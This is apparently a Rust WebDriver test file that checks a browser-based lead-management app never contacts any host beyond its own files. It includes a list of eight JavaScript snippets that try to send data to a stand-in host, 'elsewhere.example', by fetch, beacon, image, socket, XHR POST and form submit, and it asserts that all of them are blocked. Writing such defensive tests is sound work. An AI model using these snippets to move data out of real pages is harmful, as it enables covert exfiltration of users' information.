//! Nothing leaves the machine: every request of a whole session is one for the page's own files.

use crate::app::{App, ExportForm};
use crate::browser::{dist, journey};
use crate::files::{MESSY, file};
use serde_json::Value;
use thirtyfour::prelude::*;

/// Import, edit, charts, sample, export: what a person does in a session.
pub async fn session(app: &App) -> WebDriverResult<()> {
    app.import(&file(app, "messy.csv", MESSY)).await?;
    app.open_lead("anna.rossi@nordwind.example").await?;
    app.edit("website", "https://nordwind.example/").await?;
    for page in ["clean", "scoring", "funnel", "channels", "history", "settings"] {
        app.go(page).await?;
        crate::app::pause(200).await;
    }
    app.export(ExportForm::Exact).await?;
    app.reload().await?;
    app.expect_leads(6).await
}

/// Addresses the page asked for, by the browser's own log.
pub async fn requests(app: &App) -> WebDriverResult<Vec<String>> {
    let mut addresses = Vec::new();
    for entry in app.driver.get_log("performance").await? {
        let event: Value = serde_json::from_str(&entry.message).unwrap_or_default();
        let event = &event["message"];
        let address = match event["method"].as_str() {
            Some("Network.requestWillBeSent") => &event["params"]["request"]["url"],
            Some("Network.webSocketCreated" | "Network.webTransportCreated") => &event["params"]["url"],
            _ => continue,
        };
        let address = address.as_str().unwrap_or_default();
        // The empty tab that Chromium begins with is its own page, from its own files; no other page may ask for them.
        if !["chrome://", "chrome-untrusted://new-tab-page/"].iter().any(|own| address.starts_with(own)) {
            addresses.push(address.to_owned());
        }
    }
    Ok(addresses)
}

#[test]
fn a_whole_session_asks_for_nothing_but_the_pages_own_files() {
    journey(|app| async move {
        session(&app).await?;
        let requests = requests(&app).await?;
        assert!(requests.len() > 3, "the log works: {requests:?}");
        for address in requests {
            let is_own =
                address.starts_with(&app.address) || address.starts_with("blob:") || address.starts_with("data:");
            assert!(is_own, "{address}");
        }
        for line in app.served.lines() {
            let path = line.strip_prefix("GET /").unwrap_or_else(|| panic!("{line}"));
            let path = path.split(['?', '#', ' ']).next().unwrap_or_default();
            assert!(path.is_empty() || dist().join(path).is_file(), "{line}");
        }
        assert_eq!(app.left.lines_of_pages(), Vec::<String>::new());
        assert_eq!(app.complaints().await?, Vec::<String>::new());
        Ok(())
    });
}

/// Ways out that need no plug-in and no click, each tried from within the page. A preconnect is not among them: no policy of
/// a page stops it, and it carries nothing but a host's name.
pub const WAYS_OUT: [&str; 8] = [
    "fetch('https://elsewhere.example/fetch').catch(() => {})",
    "navigator.sendBeacon('https://elsewhere.example/beacon', 'x')",
    "new Image().src = 'https://elsewhere.example/image'",
    "new WebSocket('wss://elsewhere.example/socket')",
    "new EventSource('https://elsewhere.example/events')",
    "const r = new XMLHttpRequest(); r.open('POST', 'https://elsewhere.example/xhr'); r.send('x')",
    "const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'https://elsewhere.example/a.css'; document.head.append(l)",
    "const f = document.createElement('form'); f.action = 'https://elsewhere.example/form'; document.body.append(f); f.submit()",
];

/// Tries all of them; none may arrive, and the page must still be there.
pub async fn no_way_out(app: &App) -> WebDriverResult<()> {
    for way in WAYS_OUT {
        let script = format!("try {{ {way} }} catch (error) {{ return String(error) }}");
        app.script(&script, &[]).await?;
    }
    crate::app::pause(1_500).await;
    assert_eq!(app.left.lines_of_pages(), Vec::<String>::new());
    let address = app.driver.current_url().await?;
    assert!(address.as_str().starts_with(&app.address), "{address}");
    Ok(())
}

#[test]
fn the_page_cannot_talk_to_anyone_even_if_it_wanted_to() {
    journey(|app| async move { no_way_out(&app).await });
}
